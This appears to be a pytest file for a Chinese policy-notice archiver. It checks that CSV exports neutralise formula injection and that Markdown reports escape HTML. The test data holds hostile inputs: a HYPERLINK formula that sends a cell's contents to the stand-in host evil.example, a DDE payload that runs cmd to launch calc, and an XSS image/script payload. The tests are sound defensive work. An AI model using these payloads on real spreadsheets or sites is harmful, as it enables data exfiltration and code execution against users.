"""CSV formula injection: a notice titled ``=HYPERLINK(...)`` must reach a spreadsheet as text.

Every CSV the project writes (``export --format csv``, ``search --csv``, ``report --format csv``) goes
through ``store.csvout``; the notices here are stored through the repository like crawled ones.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest

import policywatch.cli as cli
from parsers.model import NoticeRecord
from policywatch.app import App
from policywatch.config import load_settings
from store.csvout import cell
from store.db import transaction
from store.repository import Repository

NOW = dt.datetime(2026, 11, 29, 2, 0, tzinfo=dt.UTC)
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1"]
FUNDING = "关于支持人工智能企业的若干措施：单个项目最高资助500万元，按投资额的30%给予补助。"


@pytest.fixture
def archive(tmp_path: Path) -> list[str]:
    settings = load_settings(environ={"POLICYWATCH_DATA_DIR": str(tmp_path)})
    app = App.open(settings)
    with transaction(app.factory) as session:
        for i, title in enumerate(HOSTILE):
            record = NoticeRecord(url=f"https://www.most.gov.cn/tztg/202611/t2026112{i}_1{i}.html", source="most",
                                  title=title + FUNDING, doc_number=None, issuers=("科技部",), written_date=None,
                                  published_date=dt.date(2026, 11, 20), body=title + "\n" + FUNDING,
                                  events=({"type": "funding_rule", "max_amount_yuan": 5_000_000, "ratio": 0.3,
                                           "fund_size_yuan": None, "text": FUNDING, "per_year": False,
                                           "years": None, "span": [0, 10], "source": "body", "rule": "r"},))
            Repository(session).upsert_notice(record, "most", "tztg", NOW)
    app.engine.dispose()
    return ["--data-dir", str(tmp_path)]


def _cells(text: str) -> list[str]:
    return [v for row in csv.reader(io.StringIO(text)) for v in row]


def _assert_neutral(text: str) -> None:
    values = _cells(text)
    assert any("HYPERLINK" in v for v in values), "the hostile titles are not in this output: proves nothing"
    dangerous = [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not dangerous, dangerous


def test_export_search_and_report_csv_are_neutralised(archive: list[str], tmp_path: Path, capsys: Any) -> None:
    out = tmp_path / "notices.csv"
    assert cli.main([*archive, "export", "--format", "csv", "--output", str(out)]) == 0
    _assert_neutral(out.read_text("utf-8"))
    assert cli.main([*archive, "search", "人工智能", "--csv", "--limit", "50"]) == 0
    _assert_neutral(capsys.readouterr().out)
    assert cli.main([*archive, "report", "funding", "--format", "csv"]) == 0
    _assert_neutral(capsys.readouterr().out)


def test_cell_rule() -> None:
    assert [cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert cell("关于=号的通知") == "关于=号的通知" and cell(-5) == -5 and cell(None) is None and cell(0.3) == 0.3


def test_markdown_report_shows_html_in_titles_as_text() -> None:
    from store.reports import Column, render_markdown

    hostile = '<img src=x onerror="alert(1)"> & <script>x()</script>'
    md = render_markdown("r", [Column("title", "标题")], [{"title": hostile, "url": "https://www.most.gov.cn/a.html"}],
                         "")
    assert "<img" not in md and "<script" not in md
    assert "&lt;img src=x onerror=\"alert(1)\"&gt; &amp; &lt;script&gt;" in md


def test_csv_files_start_with_a_bom_for_excel_and_stdout_does_not(archive: list[str], tmp_path: Path,
                                                                   capsys: Any) -> None:
    for command in (["export", "--format", "csv"], ["report", "funding", "--format", "csv"]):
        out = tmp_path / "x.csv"
        assert cli.main([*archive, *command, "--output", str(out)]) == 0
        assert out.read_bytes().startswith(b"\xef\xbb\xbf"), command
        assert cli.main([*archive, *command, "--output", str(out), "--no-bom"]) == 0
        assert not out.read_bytes().startswith(b"\xef\xbb\xbf"), command
        assert cli.main([*archive, *command]) == 0
        assert not capsys.readouterr().out.startswith("\ufeff")
